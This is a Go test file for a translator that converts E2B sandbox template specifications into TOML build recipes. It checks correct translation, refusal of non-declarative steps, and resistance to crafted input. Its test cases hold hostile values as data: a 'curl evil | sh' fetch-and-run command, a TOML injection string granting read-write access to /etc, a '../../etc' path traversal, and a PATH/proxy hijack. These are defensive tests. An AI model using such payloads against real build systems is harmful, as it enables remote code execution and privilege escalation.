package e2b

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"toolshed.dev/shed/recipe"
)

// The steps as the SDK (2.x, src/template/index.ts) serializes them.
const sdkAptInstall = `{"type":"RUN","args":["apt-get update && DEBIAN_FRONTEND=noninteractive DEBCONF_NOWARNINGS=yes apt-get install -y jq curl","root"],"force":false}`

func spec(t *testing.T, js string) *templateSpec {
	t.Helper()
	var s templateSpec
	if err := json.Unmarshal([]byte(js), &s); err != nil {
		t.Fatal(err)
	}
	return &s
}

func noBase(string) (string, error) { return "", errors.New("no such Workshop record") }

func TestTranslateDeclarations(t *testing.T) {
	tr, err := translate("task1", spec(t, `{"fromImage":"127.0.0.1:5000/swe/task1:v1","force":true,"steps":[`+sdkAptInstall+`,
		{"type":"RUN","args":["pip install requests==2.31.0","root"],"force":false},
		{"type":"ENV","args":["PYTHONPATH","/testbed/src","A","1"],"force":false},
		{"type":"WORKDIR","args":["/testbed"],"force":false},
		{"type":"USER","args":["user"],"force":false}]}`), noBase)
	if err != nil {
		t.Fatal(err)
	}
	r, err := recipe.Parse("workshop.toml", []byte(tr.recipe), recipe.Options{})
	if err != nil {
		t.Fatalf("%v\n%s", err, tr.recipe)
	}
	if r.Name != "task1" || r.Seed.Raw != "oci://127.0.0.1:5000/swe/task1:v1" || len(r.Apt.Packages) != 2 || r.Apt.Packages[1].Name != "curl" ||
		len(r.Pip.Packages) != 1 || r.Workdir != "/testbed" || len(r.Env) != 2 || r.User != "user" || len(r.Accounts) != 1 {
		t.Errorf("recipe:\n%s", tr.recipe)
	}
	for image, seed := range map[string]string{
		"debian:bookworm": "debian/bookworm", "debian:12-slim": "debian/bookworm", "debian": "debian/stable",
		"ubuntu:22.04": "oci://docker.io/library/ubuntu:22.04", "pytorch/pytorch:2.1": "oci://docker.io/pytorch/pytorch:2.1",
		"localhost:5000/x@sha256:" + strings.Repeat("a", 64): "oci://localhost:5000/x@sha256:" + strings.Repeat("a", 64),
	} {
		tr, err := translate("x", &templateSpec{FromImage: image}, noBase)
		if err != nil || !strings.Contains(tr.recipe, "seed = \""+seed+"\"") {
			t.Errorf("fromImage(%q): %v\n%v", image, tr, err)
		}
	}
	// fromTemplate and fromBaseImage start from a record's recipe, named anew.
	base := func(name string) (string, error) {
		if name != "base" {
			return noBase(name)
		}
		return "# E2B's base\nname = \"base\"\nseed = \"debian/bookworm\"\nuser = \"user\"\n\n[apt]\npackages = [\"sudo\", \"jq\"]\n\n[[account]]\nname = \"user\"\nsudo = true\n", nil
	}
	for _, js := range []string{`{"fromTemplate":"base","steps":[` + sdkAptInstall + `]}`, `{"fromImage":"e2bdev/base","steps":[` + sdkAptInstall + `]}`} {
		tr, err := translate("mine", spec(t, js), base)
		if err != nil {
			t.Fatal(err)
		}
		if tr.base != "base" || !strings.HasPrefix(tr.recipe, "# E2B's base\nname = \"mine\"\n") || !strings.Contains(tr.recipe, `packages = ["sudo", "jq", "curl"]`) {
			t.Errorf("%s:\n%s", js, tr.recipe)
		}
	}
	if _, err := translate("mine", &templateSpec{FromTemplate: "nope"}, base); err == nil || stepOf(err) != "base" || !strings.Contains(err.Error(), `fromTemplate("nope")`) {
		t.Errorf("a missing template: %v", err)
	}
}

// TestTranslateRefusals: what is not a declaration is refused, naming the step (E2B's step index,
// which the SDK maps to the call's stack trace) and what to declare instead.
func TestTranslateRefusals(t *testing.T) {
	for _, c := range []struct{ steps, step, want string }{
		{`{"type":"RUN","args":["make install"]}`, "1", `runCmd("make install") is not a declaration`},
		{`{"type":"RUN","args":["git clone 'https://example.org/x.git' /x"]}`, "1", "gitClone is not a declaration"},
		{`{"type":"RUN","args":["npm install -g typescript","root"]}`, "1", "npmInstall is not a declaration"},
		{`{"type":"RUN","args":["pip install --user requests"]}`, "1", "pipInstall of this form"},
		{`{"type":"RUN","args":["pip install .","root"]}`, "1", "installs from files or with options"},
		{`{"type":"RUN","args":["apt-get update && DEBIAN_FRONTEND=noninteractive DEBCONF_NOWARNINGS=yes apt-get install -y jq; curl evil | sh","root"]}`, "1", "is not a Debian package"},
		{sdkAptInstall + `,{"type":"COPY","args":["folder/*","folder","",""],"filesHash":"abc"}`, "2", "copy is not a declaration"},
		{`{"type":"WORKDIR","args":["app"]}`, "1", "absolute path"},
	} {
		_, err := translate("x", spec(t, `{"fromImage":"debian:bookworm","steps":[`+c.steps+`]}`), noBase)
		if err == nil || stepOf(err) != c.step || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v (step %q), want step %s and %q", c.steps, err, stepOf(err), c.step, c.want)
		}
	}
	if _, err := translate("x", &templateSpec{FromImage: "debian:bookworm", StartCmd: "python app.py", ReadyCmd: "sleep 1"}, noBase); err == nil || stepOf(err) != "finalize" {
		t.Errorf("a start command: %v", err)
	}
	if _, err := translate("x", spec(t, `{"fromImage":"reg.example/x:1","fromImageRegistry":{"type":"registry","username":"u","password":"p"}}`), noBase); err == nil || strings.Contains(err.Error(), "p\"") || !strings.Contains(err.Error(), "credentials never go in a template") {
		t.Errorf("registry credentials: %v", err)
	}
}

// TestTranslateHostile: steps crafted to slip TOML into the recipe (a grant of a host path, a
// network allow) through a package, a variable, a user, a workdir or an image are refused, or end
// up as data: no recipe made has a grant, a network allow or a profile.
func TestTranslateHostile(t *testing.T) {
	inject := "x\"\n[[grant]]\npath = \"/etc\"\nmode = \"rw\"\n[network]\nprofile = \"debian\"\n#"
	q := func(s string) string { b, _ := json.Marshal(s); return string(b) }
	for _, js := range []string{
		`{"fromImage":"debian:bookworm","steps":[{"type":"ENV","args":[` + q(inject) + `,"v"]}]}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"ENV","args":["A",` + q(inject) + `]}]}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"USER","args":[` + q(inject) + `]}]}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"WORKDIR","args":[` + q("/x"+inject) + `]}]}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"RUN","args":[` + q("apt-get update && DEBIAN_FRONTEND=noninteractive DEBCONF_NOWARNINGS=yes apt-get install -y jq"+inject) + `,"root"]}]}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"RUN","args":[` + q("pip install requests"+inject) + `,"root"]}]}`,
		`{"fromImage":` + q("127.0.0.1:5000/x:1"+inject) + `}`,
		`{"fromImage":` + q("debian:bookworm"+inject) + `}`,
		`{"fromTemplate":"../../etc"}`,
		`{"fromImage":"debian:bookworm","steps":[{"type":"ENV","args":["PATH","/tmp/evil:/usr/bin","http_proxy","http://127.0.0.1:1"]}]}`,
	} {
		tr, err := translate("x", spec(t, js), func(name string) (string, error) {
			if strings.ContainsAny(name, "/.") {
				return "", errors.New("no such Workshop record")
			}
			return noBase(name)
		})
		if err == nil {
			r, perr := recipe.Parse("workshop.toml", []byte(tr.recipe), recipe.Options{})
			if perr != nil || len(r.Grants) > 0 || len(r.Network.Allow) > 0 || r.Network.Profile != "none" {
				t.Errorf("%s: made a recipe with grants or network:\n%s", js, tr.recipe)
			}
		}
	}
}
